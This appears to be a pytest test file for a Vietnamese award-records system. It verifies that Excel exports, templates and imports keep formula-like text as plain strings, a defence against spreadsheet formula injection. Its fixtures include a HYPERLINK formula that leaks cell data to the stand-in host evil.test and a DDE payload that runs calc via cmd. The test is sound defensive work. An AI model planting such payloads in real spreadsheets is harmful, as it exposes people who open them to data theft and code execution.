"""Excel that cannot hurt whoever opens it: text that looks like a formula is written as
text in every export and template (issue 20, item 10)."""
import io

import openpyxl
import pytest
import sqlalchemy as sa

from app.extensions import db
from app.models import AwardForm, AwardRecord, Nominee
from app.services import decisions, dossiers, exports, imports
from tests import helpers

# What a hostile or merely unlucky name looks like: each starts a formula in a spreadsheet.
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Bấm vào đây")'
HOSTILE = {
    "collective": "=1+1",
    "an": "+84 912 345 678",
    "binh": "- Như Điều 3",
    "cuong": "@SUM(A1:A9)",
    "position": "=cmd|' /C calc'!A0",
    "organisation": "+SUM(1;2)",
    "reason": FORMULA,
    "strike": "-2+3",
    "unit": "=Sở Y tế",
    "form": "=Bằng khen của Chủ tịch UBND tỉnh",
}


def _workbook(named):
    _, data = named
    if hasattr(data, "read"):
        with data:
            data = data.read()
    return openpyxl.load_workbook(io.BytesIO(data))


def _texts(wb):
    """Every cell of every sheet: (sheet, coordinate, value, data type)."""
    return [(ws.title, c.coordinate, c.value, c.data_type)
            for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _no_formula(wb, expected):
    cells = _texts(wb)
    formulas = [c for c in cells if c[3] == "f"]
    assert formulas == []
    values = {c[2] for c in cells}
    missing = [v for v in expected if v not in values]
    assert missing == [], missing
    for value in expected:  # kept exactly, as text: no apostrophe, no evaluation
        assert all(c[3] == "s" for c in cells if c[2] == value)


@pytest.fixture
def hostile(world):
    """A campaign decided for nominees whose every text starts with =, +, - or @; its unit and
    its award form renamed the same way (as a careless or hostile admin could)."""
    form = db.session.scalars(sa.select(AwardForm).where(AwardForm.code == "BKCT")).one()
    campaign = helpers.make_campaign(world, award_forms=[{"code": "BKCT", "quota_per_unit": 9}])
    unit = world.units["SYT"]
    specs = [
        {"kind": "collective", "name": HOSTILE["collective"], "award_form": "BKCT",
         "organisation": HOSTILE["organisation"], "votes_for": 9},
        {"kind": "individual", "name": HOSTILE["an"], "title": "Ông",
         "position_title": HOSTILE["position"], "organisation": HOSTILE["organisation"],
         "award_form": "BKCT", "votes_for": 8},
        {"kind": "individual", "name": HOSTILE["binh"], "title": "Bà",
         "position_title": HOSTILE["position"], "organisation": "Sở Y tế",
         "award_form": "BKCT", "votes_for": 8},
        {"kind": "individual", "name": HOSTILE["cuong"], "title": "Ông",
         "position_title": "Chuyên viên", "organisation": "Sở Y tế", "award_form": "BKCT",
         "votes_for": 7},
    ]
    dossier = helpers.complete_dossier(world, campaign, nominees=specs)
    helpers.fire(world, "dossier", dossier, "staff_a", "submit")
    helpers.fire(world, "dossier", dossier, "head_a", "sign_off")
    helpers.fire(world, "dossier", dossier, "appraiser", "start_appraisal")
    by_name = {n.name: n for n in dossier.nominees}
    for n in dossier.nominees:
        verdict = "declined" if n.name == HOSTILE["cuong"] else "accepted"
        dossiers.set_verdict(world.users["appraiser"], dossier.id, n.id, verdict,
                             HOSTILE["reason"] if verdict == "declined" else None)
    helpers.fire(world, "dossier", dossier, "appraiser", "complete_appraisal")
    decision = decisions.create_decision(world.users["appraiser"],
                                         {"campaign_id": campaign.id, "award_form": "BKCT"})
    decisions.add_nominees(world.users["appraiser"], decision.id,
                           [by_name[k].id for k in (HOSTILE["collective"], HOSTILE["an"],
                                                    HOSTILE["binh"])])
    helpers.fire(world, "decision", decision, "appraiser", "submit")
    helpers.fire(world, "decision", decision, "board_head", "sign_proposal")
    decisions.strike(world.users["chairman"], decision.id, by_name[HOSTILE["binh"]].id, True,
                     HOSTILE["strike"])
    helpers.fire(world, "decision", decision, "chairman", "approve")
    helpers.fire(world, "decision", decision, "clerk", "issue")
    # names read from the database as they are, however they got there
    unit.name = HOSTILE["unit"]
    form.name = HOSTILE["form"]
    db.session.commit()
    db.session.refresh(decision)
    return campaign, dossier, decision


def test_exports_write_formula_like_text_as_text(world, hostile):
    campaign, _dossier, decision = hostile
    board = world.users["board_head"]

    _no_formula(_workbook(exports.progress(board, campaign.id)), [HOSTILE["unit"]])
    _no_formula(_workbook(exports.nominees(board, campaign.id)), [
        HOSTILE["unit"], HOSTILE["collective"], HOSTILE["an"], HOSTILE["binh"],
        HOSTILE["cuong"], HOSTILE["position"], HOSTILE["organisation"], HOSTILE["reason"],
        HOSTILE["form"]])
    _no_formula(_workbook(exports.awardees(world.users["clerk"], decision.id)), [
        HOSTILE["collective"], HOSTILE["an"], HOSTILE["position"], HOSTILE["organisation"],
        HOSTILE["form"]])
    # the register: the system's records of this decision, and one imported with a hostile
    # decision number and level
    record = db.session.scalars(sa.select(AwardRecord)).first()
    db.session.add(AwardRecord(
        source="import", subject_kind="individual", name="@Nguyễn Văn Nam", title="Ông",
        position_title="-", organisation="=A1", identity_key="import-hostile",
        search_key="nguyen van nam", unit_id=None, unit_name="+Đơn vị cũ",
        award_form_id=record.award_form_id, form_name=HOSTILE["form"],
        decision_number="=125/QĐ-UBND", decided_on=decision.issued_on,
        year=decision.issued_on.year, issuer_name="=Chủ tịch", issuing_level="@Cấp tỉnh",
        created_at=record.created_at))
    db.session.commit()
    _no_formula(_workbook(exports.register(board, decision.issued_on.year)), [
        HOSTILE["collective"], HOSTILE["an"], "@Nguyễn Văn Nam", "-", "=A1", "+Đơn vị cũ",
        HOSTILE["form"], "=125/QĐ-UBND", "@Cấp tỉnh"])


def test_templates_write_formula_like_text_as_text(world, hostile):
    _campaign, _dossier, _decision = hostile
    draft = helpers.unit_item(type(_dossier), helpers.make_campaign(world), "SYT")
    wb = _workbook(imports.nominee_template(world.users["staff_a"], draft.id))
    _no_formula(wb, [HOSTILE["form"], HOSTILE["unit"]])
    assert wb["Danh mục"]["F1"].value == HOSTILE["form"]  # the drop-down's own list
    wb = _workbook(imports.award_template(world.users["board_head"]))
    _no_formula(wb, [HOSTILE["form"]])


def test_formula_like_text_survives_an_export_and_import_round_trip(world, hostile):
    """What the system wrote reads back unchanged: a unit can export, correct and import."""
    draft = helpers.unit_item(type(hostile[1]), helpers.make_campaign(world), "SYT")
    _, data = imports.nominee_template(world.users["staff_a"], draft.id)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb[imports.NOMINEE_SHEET]
    for name in (HOSTILE["an"], HOSTILE["binh"], HOSTILE["cuong"], "=Trần Thị Hoa"):
        ws.append(["Cá nhân", "Bà", name, HOSTILE["position"], HOSTILE["organisation"],
                   HOSTILE["form"], 9, FORMULA])
        ws.cell(row=ws.max_row, column=3).data_type = "s"
        for column in (4, 6, 8):
            ws.cell(row=ws.max_row, column=column).data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    assert imports.import_nominees(world.users["staff_a"], draft.id, out.getvalue(),
                                   "ds.xlsx") == 4
    stored = db.session.scalars(sa.select(Nominee).where(Nominee.dossier_id == draft.id)
                                .order_by(Nominee.position)).all()
    assert [n.name for n in stored] == [HOSTILE["an"], HOSTILE["binh"], HOSTILE["cuong"],
                                        "=Trần Thị Hoa"]
    assert {n.position_title for n in stored} == {HOSTILE["position"]}
    assert {n.achievement_summary for n in stored} == {FORMULA}
